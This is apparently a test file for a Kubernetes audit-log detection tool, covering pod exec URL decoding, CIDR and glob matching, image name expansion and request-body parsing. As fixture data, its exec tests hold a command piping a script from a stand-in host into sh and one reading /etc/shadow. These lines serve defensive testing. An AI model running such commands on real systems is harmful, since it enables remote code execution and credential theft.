import { describe, expect, it } from 'vitest';
import { decodeExec, formatArgv } from '../../src/detect/command.js';
import { CidrSet } from '../../src/detect/patterns.js';
import { PatternList } from '../../src/detect/patterns.js';
import { canonicalImage } from '../../src/detect/lists.js';

describe('exec command decoding', () => {
  it('joins every command= parameter in order and quotes words like a shell', () => {
    const r = decodeExec('/api/v1/namespaces/prod/pods/api/exec?command=sh&command=-c&command=curl+-s+http%3A%2F%2Fx%2Fa.sh+%7C+sh&container=app&stdin=true&tty=true');
    expect(r).toEqual({ argv: ['sh', '-c', 'curl -s http://x/a.sh | sh'], container: 'app', stdin: true, tty: true });
    expect(formatArgv(r.argv)).toBe("sh -c 'curl -s http://x/a.sh | sh'");
  });

  it('keeps parameters order even when other parameters sit between commands', () => {
    const r = decodeExec('/x/exec?container=c&command=cat&stdout=true&command=%2Fetc%2Fshadow');
    expect(formatArgv(r.argv)).toBe('cat /etc/shadow');
  });

  it("quotes single quotes and empty words, survives broken escapes", () => {
    expect(formatArgv(["it's", '', 'a b'])).toBe(`'it'\\''s' '' 'a b'`);
    expect(decodeExec('/x?command=%ZZ').argv).toEqual(['%ZZ']);
  });
});

describe('lists', () => {
  it('CIDR sets match IPv4, IPv6 and IPv4-mapped addresses', () => {
    const s = new CidrSet(['10.0.0.0/8', '2001:db8::/32', '192.168.1.7']);
    expect(s.contains('10.200.3.4')).toBe(true);
    expect(s.contains('11.0.0.1')).toBe(false);
    expect(s.contains('2001:db8:1::5')).toBe(true);
    expect(s.contains('2001:db9::1')).toBe(false);
    expect(s.contains('::ffff:10.1.1.1')).toBe(true);
    expect(s.contains('192.168.1.7')).toBe(true);
    expect(s.contains('192.168.1.8')).toBe(false);
    expect(s.contains('not-an-ip')).toBe(false);
  });

  it('CIDR answer cache stays bounded', () => {
    const s = new CidrSet(['10.0.0.0/8']);
    for (let i = 0; i < 10_000; i++) s.contains(`172.16.${i >> 8}.${i & 255}`);
    expect(s.cacheSize).toBeLessThanOrEqual(CidrSet.CACHE_CAP);
  });

  it('pattern lists take exact names and globs', () => {
    const p = new PatternList(['system:node:*', 'exact', '*.dkr.ecr.*.amazonaws.com/eks/*']);
    expect(p.has('system:node:worker-1')).toBe(true);
    expect(p.has('exact')).toBe(true);
    expect(p.has('exactly')).toBe(false);
    expect(p.has('602401143452.dkr.ecr.us-west-2.amazonaws.com/eks/kube-proxy:v1.29')).toBe(true);
  });

  it('Docker Hub short names are expanded before matching images', () => {
    expect(canonicalImage('nginx')).toBe('docker.io/library/nginx');
    expect(canonicalImage('calico/node:v3')).toBe('docker.io/calico/node:v3');
    expect(canonicalImage('registry.k8s.io/pause:3.9')).toBe('registry.k8s.io/pause:3.9');
    expect(canonicalImage('localhost:5000/x')).toBe('localhost:5000/x');
  });
});

describe('request object extraction', () => {
  it('parses only the request object, with braces and escaped quotes inside strings', async () => {
    const { requestObjectOf } = await import('../../src/detect/body.js');
    const { ev } = await import('./helpers.js');
    const body = { metadata: { name: 'x', annotations: { a: 'brace } and "quote" and \\ and {' } }, spec: { hostNetwork: true } };
    const e = ev({ verb: 'create', requestObject: body });
    expect(requestObjectOf(e)).toEqual(body);
    const withResponse = { ...e, raw: e.raw.replace('"requestObject":', '"responseObject":{"huge":[1,2,3]},"requestObject":') };
    expect(requestObjectOf(withResponse)).toEqual(body);
    expect(requestObjectOf(ev({}))).toBeUndefined();
    const broken = { ...e, raw: '{"requestObject":{"a":' };
    expect(requestObjectOf(broken)).toBeUndefined();
  });
});
